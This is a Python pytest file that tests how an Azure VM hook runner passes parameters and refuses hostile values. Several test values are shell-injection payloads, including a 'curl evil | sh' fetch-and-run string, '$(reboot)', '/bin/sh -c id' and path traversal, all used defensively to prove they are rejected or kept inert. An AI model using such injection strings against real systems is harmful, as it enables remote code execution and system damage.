"""RunCommandHookRunner through the real Compute client against the fake ARM server."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from quiesce.guest import RUNNER_PATH
from quiesce.guest.protocol import parse_answer
from quiesce.policy.model import Hook, Hooks
from quiesce.ports import HookCall, Machine
from quiesce.record import HookResult, HookStatus
from quiesce_azure import hooks as hooks_module
from quiesce_azure.clients import CredentialClients
from quiesce_azure.hooks import RUN_HOOK_SCRIPT, RunCommandHookRunner, hook_parameters
from quiesce_azure.member import AzureMember
from quiesce_azure.retry import Backoff

from .conftest import Sleeps
from .fake_arm import RG, SUB, FakeArm, succeeded_output

PRE = Hook(
    run=["/etc/quiesce/pause.sh", "orders db", "it's $(reboot)"],
    timeout_seconds=5,
    env={"DB_PASSWORD": "hunter2-secret"},
)
POST = Hook(run=["/etc/quiesce/resume.sh"], timeout_seconds=5)
IDENTIFIERS = {
    "QUIESCE_PHASE",
    "QUIESCE_RUN_ID",
    "QUIESCE_MEMBER",
    "QUIESCE_HOOK",
    "QUIESCE_EXPIRES_AT",
    "QUIESCE_RESTORE_PATH",
}


def machine(vm: dict[str, Any], **attributes: str) -> Machine:
    return Machine(
        provider="azure",
        member="db",
        machine_id=vm["id"],
        attributes={"location": vm["location"], "os": "linux", **attributes},
    )


def member_of(target: Machine) -> AzureMember:
    """The policy member a machine stands for, as declared."""
    return AzureMember.model_validate(
        {
            "name": target.member,
            "provider": "azure",
            "subscription": SUB,
            "resource_group": RG,
            "select": {"vm_names": [target.machine_id.rsplit("/", 1)[-1]]},
            "hooks": Hooks(pre=PRE, post=POST),
        }
    )


def call(vm: dict[str, Any], phase: str = "pre", **attributes: str) -> HookCall:
    return HookCall(
        run_id="20260101T000000Z-abc123",
        policy="shop",
        group="orders",
        member="db",
        machine=machine(vm, **attributes),
        phase=phase,  # type: ignore[arg-type]
        hook=PRE if phase == "pre" else POST,
        thaw=POST if phase == "pre" else None,
        max_freeze_seconds=30 if phase == "pre" else None,
        spec=member_of(machine(vm, **attributes)),
    )


def runner(clients: CredentialClients, **kwargs: Any) -> RunCommandHookRunner:
    return RunCommandHookRunner(clients, poll_interval=0, **kwargs)


def test_pre_runs_the_fixed_script_with_only_identifiers_and_the_hooks_name(
    arm: FakeArm, clients: CredentialClients
) -> None:
    vm = arm.add_vm("db-1")
    result = runner(clients).run(call(vm))
    assert result.status is HookStatus.SUCCEEDED, result
    (seen,) = arm.hook_calls
    assert seen.script == RUN_HOOK_SCRIPT
    assert "/etc/quiesce/pause.sh" not in seen.script
    assert set(seen.params) == {
        "QUIESCE_PHASE",
        "QUIESCE_RUN_ID",
        "QUIESCE_MEMBER",
        "QUIESCE_HOOK",
        "QUIESCE_EXPIRES_AT",
    }
    assert seen.params["QUIESCE_PHASE"] == "pre"
    assert seen.params["QUIESCE_HOOK"] == "orders.db.pre"
    assert float(seen.params["QUIESCE_EXPIRES_AT"]) > 0
    assert seen.protected == {}
    for private in ("pause.sh", "resume.sh", "orders db", "reboot", "DB_PASSWORD", "hunter2"):
        assert private not in seen.body, private
    assert seen.timeout >= 60
    assert arm.deleted_run_commands == [seen.name]
    assert arm.run_commands == {}
    assert seen.name.startswith("quiesce-pre-20260101T000000Z-abc123-db-")


def test_a_post_check_and_verify_name_their_hooks_and_only_verify_carries_a_path(
    arm: FakeArm, clients: CredentialClients
) -> None:
    vm = arm.add_vm("db-1")
    verify = replace(call(vm, "verify"), hook=POST, extra_args=("/restore/orders/db",))

    runner(clients).run(call(vm, "post"))
    runner(clients).check(call(vm, "pre"))
    runner(clients).run(verify)

    post, check, checked = (c.params for c in arm.hook_calls)
    assert post["QUIESCE_HOOK"] == "orders.db.post"
    assert (check["QUIESCE_PHASE"], check["QUIESCE_HOOK"]) == ("check", "orders.db.pre")
    assert checked["QUIESCE_HOOK"] == "orders.db.verify"
    assert checked["QUIESCE_RESTORE_PATH"] == "/restore/orders/db"
    assert all(set(c.params) <= IDENTIFIERS for c in arm.hook_calls)
    assert "QUIESCE_RESTORE_PATH" not in post


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"member": "x' ; sh -c 'curl evil | sh"}, "QUIESCE_MEMBER"),
        ({"group": "orders/../../tmp"}, "QUIESCE_HOOK"),
        ({"group": "orders; /bin/sh -c id"}, "QUIESCE_HOOK"),
        ({"run_id": "r$(reboot)"}, "QUIESCE_RUN_ID"),
        ({"phase": "verify", "extra_args": ("relative/path",)}, "QUIESCE_RESTORE_PATH"),
        ({"phase": "verify", "extra_args": ("/restore/a\nb",)}, "QUIESCE_RESTORE_PATH"),
        ({"extra_args": ("--anything",)}, "declare the arguments"),
    ],
)
def test_a_hostile_value_is_refused_before_anything_is_sent(
    arm: FakeArm, clients: CredentialClients, change: dict[str, Any], why: str
) -> None:
    vm = arm.add_vm("db-1")
    result = runner(clients).run(replace(call(vm, "post"), **change))
    assert (result.status, result.code) == (HookStatus.REFUSED, "BadParameter")
    assert why in result.message
    assert arm.hook_calls == []


def test_the_script_passes_parameters_as_data_never_as_code(tmp_path: Path) -> None:
    """The fixed script, run by sh with hostile parameter values, hands them to the runner
    verbatim as arguments."""
    stub = tmp_path / "runner.py"
    stub.write_text("import json, sys\nprint(json.dumps(sys.argv[1:]))\n")
    allowlist = tmp_path / "hooks.json"
    allowlist.write_text("{}")
    script = (
        RUN_HOOK_SCRIPT.replace(hooks_module.RUNNER_INSTALL_PATH, str(stub))
        .replace(hooks_module.ALLOWLIST_PATH, str(allowlist))
        .replace(f"exec {hooks_module.PYTHON}", f"exec {sys.executable}")
    )
    marker = tmp_path / "pwned"
    hostile = f'$(touch {marker}) `touch {marker}` "; touch {marker}'
    env = {
        "PATH": os.environ["PATH"],
        "QUIESCE_PHASE": "pre",
        "QUIESCE_RUN_ID": "r1",
        "QUIESCE_MEMBER": hostile,
        "QUIESCE_HOOK": f"x' ; sh -c 'touch {marker}'",
    }
    out = subprocess.run(
        ["sh", "-c", script], env=env, capture_output=True, text=True, check=True
    ).stdout
    argv = json.loads(out)
    assert argv[0] == "run-args"
    assert argv[argv.index("--config") + 1] == str(allowlist)
    assert argv[argv.index("--member") + 1] == hostile
    assert argv[argv.index("--hook") + 1] == f"x' ; sh -c 'touch {marker}'"
    assert argv[argv.index("--restore-path") + 1] == ""
    assert not marker.exists()


@pytest.mark.skipif(os.geteuid() != 0, reason="the runner needs a root-owned allowlist here")
@pytest.mark.skipif(not os.access("/usr/bin/python3", os.X_OK), reason="no /usr/bin/python3")
def test_the_script_runs_the_declared_hook_through_the_real_runner(tmp_path: Path) -> None:
    """The fixed script, the real runner and an allowlist as infra/azure installs it: the
    declared argv runs; an undeclared name runs nothing."""
    root = tmp_path / "vm"
    (root / "hooks").mkdir(parents=True, mode=0o755)
    echo = root / "hooks" / "echo.sh"
    echo.write_text("#!/bin/sh\nprintf '[%s]\\n' \"$@\"\n")
    echo.chmod(0o755)
    runner_copy = root / "quiesce_guest.py"
    runner_copy.write_bytes(RUNNER_PATH.read_bytes())
    allowlist = root / "hooks.json"
    declared = {"phase": "post", "run": [str(echo), "resume", "it's $(id)"], "timeout_seconds": 5}
    allowlist.write_text(
        json.dumps(
            {"version": 1, "state_dir": str(root / "state"), "hooks": {"orders.db.post": declared}}
        )
    )
    script = RUN_HOOK_SCRIPT.replace(hooks_module.RUNNER_INSTALL_PATH, str(runner_copy)).replace(
        hooks_module.ALLOWLIST_PATH, str(allowlist)
    )
    vm = {
        "id": "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/v",
        "location": "westeurope",
    }

    def run(hook_call: HookCall) -> HookResult | None:
        params = hook_parameters(hook_call, hook_call.phase)
        done = subprocess.run(
            ["sh", "-c", script],
            env={"PATH": "/usr/bin:/bin", **params},
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        return parse_answer(done.stdout)

    ran = run(call(vm, "post"))
    other = run(replace(call(vm, "post"), group="billing"))

    assert ran is not None
    assert (ran.code, ran.output) == ("Succeeded", "[resume]\n[it's $(id)]\n")
    assert other is not None
    assert (other.status, other.code) == (HookStatus.REFUSED, "HookNotDeclared")


@pytest.mark.parametrize(
    ("state", "exit_code", "output", "status", "code"),
    [
        ("Failed", 2, "", HookStatus.FAILED, "ExecutionFailed"),
        ("TimedOut", None, "", HookStatus.TIMED_OUT, "TimedOut"),
        ("Canceled", None, "", HookStatus.FAILED, "Cancelled"),
        ("Succeeded", 0, "no json here", HookStatus.FAILED, "RunnerError"),
    ],
)
def test_execution_states_map_to_results(
    arm: FakeArm,
    clients: CredentialClients,
    state: str,
    exit_code: int | None,
    output: str,
    status: HookStatus,
    code: str,
) -> None:
    vm = arm.add_vm("db-1")
    arm.guest = lambda _vm, _params: (state, exit_code, output, "boom")  # type: ignore[assignment,return-value]
    result = runner(clients).run(call(vm))
    assert (result.status, result.code) == (status, code)
    assert arm.run_commands == {}  # deleted also when the hook failed


def test_the_runners_own_failure_is_passed_through(
    arm: FakeArm, clients: CredentialClients
) -> None:
    vm = arm.add_vm("db-1")
    failed = {"status": "failed", "code": "HashMismatch", "message": "pin", "attempts": 0}
    arm.guest = lambda _vm, _params: ("Failed", 3, json.dumps(failed), "")
    result = runner(clients).run(call(vm))
    assert (result.status, result.code, result.message) == (
        HookStatus.FAILED,
        "HashMismatch",
        "pin",
    )


def test_a_throttled_put_is_retried_after_retry_after(
    arm: FakeArm, clients: CredentialClients, sleeps: Sleeps
) -> None:
    vm = arm.add_vm("db-1")
    arm.throttle("PUT", r"/runCommands/", count=1, retry_after="4")
    result = runner(clients, backoff=Backoff(sleep=sleeps)).run(call(vm, "post"))
    assert result.ok
    assert sleeps.waits == [4.0]
    assert len(arm.hook_calls) == 1


def test_windows_vms_are_refused(arm: FakeArm, clients: CredentialClients) -> None:
    vm = arm.add_vm("win-1", os="Windows")
    result = runner(clients).run(call(vm, os="windows"))
    assert (result.status, result.code) == (HookStatus.REFUSED, "InvalidPlatform")
    assert arm.hook_calls == []


def test_run_many_sends_every_vm_its_command(arm: FakeArm, clients: CredentialClients) -> None:
    vms = [arm.add_vm(f"db-{i}") for i in range(3)]
    results = runner(clients).run_many([call(vm) for vm in vms])
    assert all(not isinstance(r, BaseException) and r.ok for r in results)
    assert sorted(c.vm for c in arm.hook_calls) == ["db-0", "db-1", "db-2"]
    assert arm.run_commands == {}


def test_location_is_looked_up_when_the_machine_has_none(
    arm: FakeArm, clients: CredentialClients
) -> None:
    vm = arm.add_vm("db-1")
    bare = HookCall(
        run_id="r",
        policy="shop",
        group="orders",
        member="db",
        machine=Machine(provider="azure", member="db", machine_id=vm["id"]),
        phase="post",
        hook=POST,
        spec=member_of(machine(vm)),
    )
    assert runner(clients).run(bare).ok
    assert json.loads(succeeded_output({}))["status"] == "succeeded"
